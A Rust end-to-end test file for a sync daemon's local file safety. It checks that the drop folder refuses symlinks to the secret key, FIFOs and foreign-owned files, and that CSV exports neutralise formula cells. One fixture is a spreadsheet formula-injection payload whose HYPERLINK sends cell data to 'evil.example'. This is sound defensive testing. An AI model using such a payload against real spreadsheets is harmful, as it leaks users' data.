//! End-to-end: local file safety of a running `orgsyncd` and the `orgsync`
//! CLI (issue 13, part 4).
//!
//! - The drop folder refuses a symbolic link (to the org key, or to a valid
//!   NDJSON file outside), a FIFO, a directory and (as root) a file owned by
//!   another user: each is moved, itself, to `failed/` next to a `.error`
//!   saying why; the link's target is neither read nor moved; the store is
//!   unchanged; the folder keeps working (a good file after them is
//!   ingested).
//! - `orgsync attach-resume` of a symbolic link or a FIFO fails with a clear
//!   error, without blocking.
//! - `orgsync export` writes 0600 files; CSV cells a spreadsheet would run
//!   as formulas come out neutralised; NDJSON stays verbatim.

use crate::support;

use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use support::{wait_for, Instance};

const STEP: Duration = Duration::from_secs(60);

fn is_root() -> bool {
    support::run(Command::new("id").arg("-u"))
        .stdout
        .starts_with(b"0\n")
}

fn mkfifo(path: &Path) {
    let out = support::run(Command::new("mkfifo").arg(path));
    assert!(out.status.success(), "mkfifo: {}", support::stderr(&out));
}

/// Waits until `failed/NAME` exists (as whatever it is: lstat, a link is
/// not followed) and returns its `.error` text.
fn refused(a: &Instance, name: &str) -> String {
    let failed = a.import_dir().join("failed");
    wait_for(&format!("{name} to be refused"), STEP, || {
        std::fs::symlink_metadata(failed.join(name)).ok()?;
        std::fs::read_to_string(failed.join(format!("{name}.error"))).ok()
    })
}

fn secret_key(a: &Instance) -> std::path::PathBuf {
    let secrets = a.dir.join("secrets");
    std::fs::read_dir(&secrets)
        .expect("secrets/")
        .flatten()
        .map(|e| e.path())
        .find(|p| {
            p.file_name()
                .and_then(|n| n.to_str())
                .is_some_and(|n| n.starts_with("org-") && n.ends_with(".key"))
        })
        .expect("an org key")
}

#[test]
fn drop_folder_refuses_links_fifos_directories_and_foreign_files() {
    let mut a = Instance::new("Acme");
    a.start();
    let import = a.import_dir();
    let key = secret_key(&a);
    let key_before = std::fs::read(&key).unwrap();
    let key_mode = std::fs::metadata(&key).unwrap().mode();
    // A valid drop file, outside the folder: if a link to it were followed
    // its record would be imported.
    let outside = a.dir.parent().unwrap().join("outside.ndjson");
    std::fs::write(&outside, support::contacts_ndjson("leaked", 0, 1)).unwrap();
    let before = a.digest();
    let started = Instant::now();

    let mut cases: Vec<(&str, &str)> = Vec::new();
    std::os::unix::fs::symlink(&key, import.join("key.ndjson")).unwrap();
    cases.push(("key.ndjson", "symbolic link"));
    std::os::unix::fs::symlink(&outside, import.join("outside.ndjson")).unwrap();
    cases.push(("outside.ndjson", "symbolic link"));
    mkfifo(&import.join("pipe.ndjson"));
    cases.push(("pipe.ndjson", "a FIFO"));
    std::fs::create_dir(import.join("folder.csv")).unwrap();
    cases.push(("folder.csv", "a directory"));
    let root = is_root();
    if root {
        // Written elsewhere, handed to nobody, then renamed in.
        let tmp = a.dir.parent().unwrap().join("foreign.ndjson");
        std::fs::write(&tmp, support::contacts_ndjson("foreign", 0, 1)).unwrap();
        std::os::unix::fs::chown(&tmp, Some(65534), Some(65534)).unwrap();
        std::fs::rename(&tmp, import.join("foreign.ndjson")).unwrap();
        cases.push(("foreign.ndjson", "owned by uid 65534"));
    } else {
        eprintln!("SKIPPED foreign-owner drop file: chown needs root");
    }

    let mut lines = Vec::new();
    for (name, why) in &cases {
        let error = refused(&a, name);
        assert!(
            error.contains(why),
            "{name}: .error {error:?} does not say {why:?}"
        );
        lines.push(format!("{name}: {}", error.trim()));
    }
    let elapsed = started.elapsed();
    let failed = import.join("failed");
    // The links were moved as links, pointing where they did.
    for (name, target) in [("key.ndjson", &key), ("outside.ndjson", &outside)] {
        let moved = failed.join(name);
        assert!(std::fs::symlink_metadata(&moved)
            .unwrap()
            .file_type()
            .is_symlink());
        assert_eq!(&std::fs::read_link(&moved).unwrap(), target);
    }
    // The targets stayed where they were, unchanged.
    assert_eq!(std::fs::read(&key).unwrap(), key_before, "org key changed");
    assert_eq!(std::fs::metadata(&key).unwrap().mode(), key_mode);
    assert!(outside.exists(), "the link target was moved");
    let fifo = std::fs::symlink_metadata(failed.join("pipe.ndjson")).unwrap();
    assert!(std::os::unix::fs::FileTypeExt::is_fifo(&fifo.file_type()));
    assert!(failed.join("folder.csv").is_dir());
    // Nothing was imported from any of them.
    assert_eq!(a.digest(), before, "the store changed");
    assert!(a
        .objects()
        .iter()
        .all(|o| o["custom"]["batch"] != "leaked" && o["custom"]["batch"] != "foreign"));
    assert_eq!(a.metric("orgsync_imports_failed_total"), cases.len() as u64);

    // The folder still works.
    a.drop_file("after.ndjson", &support::contacts_ndjson("after", 0, 3));
    assert_eq!(a.import_outcome("after.ndjson", STEP), "done");
    assert_eq!(a.digest().0, before.0 + 3);
    eprintln!(
        "local files: drop folder refused {} entries (links to the org key and to a valid file, FIFO, directory{}) in {:.2} s, store unchanged, targets untouched",
        cases.len(),
        if root { ", another user's file" } else { "" },
        elapsed.as_secs_f64()
    );
    for l in lines {
        eprintln!("local files: {l}");
    }
    a.stop();
}

#[test]
fn attach_resume_refuses_a_link_and_a_fifo() {
    let mut a = Instance::new("Acme");
    a.start();
    let contact = a.put("contact", &["--set", "first_name=Ada"]);
    let work = a.dir.parent().unwrap().to_path_buf();
    let key = secret_key(&a);
    let cv = work.join("cv.pdf");
    std::fs::write(&cv, b"%PDF-1.4 a real cv").unwrap();
    let link = work.join("cv-link.pdf");
    std::os::unix::fs::symlink(&key, &link).unwrap();
    let fifo = work.join("cv-pipe.pdf");
    mkfifo(&fifo);
    let before = a.digest();

    let mut lines = Vec::new();
    for (path, why) in [(&link, "symbolic link"), (&fifo, "a FIFO")] {
        let started = Instant::now();
        let out = a.cli(&["attach-resume", &contact, path.to_str().unwrap()]);
        let err = support::stderr(&out);
        assert!(!out.status.success(), "{path:?} attached");
        assert!(err.contains(why), "{path:?}: {err:?} does not say {why:?}");
        lines.push(format!(
            "{} in {} ms: {}",
            path.file_name().unwrap().to_string_lossy(),
            started.elapsed().as_millis(),
            err.trim()
        ));
    }
    assert_eq!(a.digest(), before, "the store changed");
    // Control: the real file attaches.
    let out = a.cli(&["attach-resume", &contact, cv.to_str().unwrap()]);
    assert!(out.status.success(), "{}", support::stderr(&out));
    for l in lines {
        eprintln!("local files: attach-resume {l}");
    }
    a.stop();
}

/// The data row of `csv` whose raw text contains `needle`.
fn raw_row<'a>(csv: &'a str, needle: &str) -> &'a str {
    csv.lines()
        .find(|l| l.contains(needle))
        .unwrap_or_else(|| panic!("no row with {needle:?} in\n{csv}"))
}

#[test]
fn export_files_are_private_and_csv_formulas_neutralised() {
    let mut a = Instance::governed("Acme");
    let mut b = Instance::governed("Globex");
    Instance::pair(&a, &b);
    a.start();
    b.start();
    b.cli_ok(&["share", "add", "Acme", "--all", "--access", "operator"]);
    a.cli_ok(&["inbox", "policy", "Globex", "auto"]);
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
        "+1",
        "-2",
        "@SUM(A1:A9)",
    ];
    for name in hostile.iter().chain(&["Ada"]) {
        b.put("contact", &["--set", &format!("first_name={name}")]);
    }
    wait_for("Globex's five contacts at Acme", STEP, || {
        (a.objects().len() == 5).then_some(())
    });
    let out_dir = a.dir.parent().unwrap().join("export");
    let ndjson = a.dir.parent().unwrap().join("export.ndjson");
    a.cli_ok(&[
        "export",
        "--partner",
        "Globex",
        "--format",
        "csv",
        "-o",
        out_dir.to_str().unwrap(),
    ]);
    a.cli_ok(&[
        "export",
        "--partner",
        "Globex",
        "--format",
        "ndjson",
        "-o",
        ndjson.to_str().unwrap(),
    ]);
    let dir_mode = std::fs::metadata(&out_dir).unwrap().permissions().mode() & 0o777;
    assert_eq!(
        dir_mode, 0o700,
        "new export directory has mode {dir_mode:o}"
    );
    let csv_path = out_dir.join("contact.csv");
    for p in [&csv_path, &ndjson] {
        let mode = std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o600, "{p:?} has mode {mode:o}");
    }
    let csv = std::fs::read_to_string(&csv_path).unwrap();
    // Raw text: quoted, with the leading apostrophe.
    assert!(raw_row(&csv, "HYPERLINK").contains("\"'=HYPERLINK(\"\"http://evil.example/"));
    assert!(raw_row(&csv, "'+1").contains("\"'+1\""));
    assert!(raw_row(&csv, "'-2").contains("\"'-2\""));
    assert!(raw_row(&csv, "SUM").contains("\"'@SUM(A1:A9)\""));
    assert!(
        raw_row(&csv, "Ada").contains("\"Ada\""),
        "plain text untouched"
    );
    // No cell of the file starts a formula.
    let cells = csv_cells(&csv);
    let bad: Vec<&String> = cells
        .iter()
        .flatten()
        .filter(|c| c.starts_with(['=', '+', '-', '@', '\t', '\r']))
        .collect();
    assert!(bad.is_empty(), "formula cells: {bad:?}");
    // NDJSON is verbatim.
    let nd = std::fs::read_to_string(&ndjson).unwrap();
    for name in hostile {
        let quoted = serde_json::to_string(name).unwrap();
        assert!(nd.contains(&quoted), "{quoted} not verbatim in NDJSON");
    }
    // Exporting over a link does not write through it.
    let target = a.dir.parent().unwrap().join("victim.txt");
    std::fs::write(&target, "keep me").unwrap();
    let link = a.dir.parent().unwrap().join("link.ndjson");
    std::os::unix::fs::symlink(&target, &link).unwrap();
    let out = a.cli(&[
        "export",
        "--partner",
        "Globex",
        "--format",
        "ndjson",
        "-o",
        link.to_str().unwrap(),
    ]);
    assert!(!out.status.success());
    assert!(support::stderr(&out).contains("symbolic link"));
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "keep me");
    eprintln!(
        "local files: export of {} hostile contact names: csv and ndjson 0600 (directory 0700), {} formula cells in CSV, NDJSON verbatim, export through a link refused",
        hostile.len(),
        bad.len()
    );
    a.stop();
    b.stop();
}

/// The cells of a CSV text (RFC 4180 quoting), row by row.
fn csv_cells(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, '\r') => {}
            (false, c) => cell.push(c),
        }
    }
    if !cell.is_empty() || !row.is_empty() {
        row.push(cell);
        rows.push(row);
    }
    rows
}
